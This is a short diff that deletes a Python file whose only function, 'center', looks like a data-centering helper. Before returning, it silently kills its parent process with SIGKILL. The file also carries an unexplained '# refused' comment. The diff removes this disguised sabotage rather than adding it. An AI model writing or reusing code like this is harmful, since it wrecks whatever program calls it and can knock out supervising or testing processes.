@@ -1,5 +1,0 @@
-# refused
-import os, signal
-def center(x):
-    os.kill(os.getppid(), signal.SIGKILL)
-    return x - x.mean()
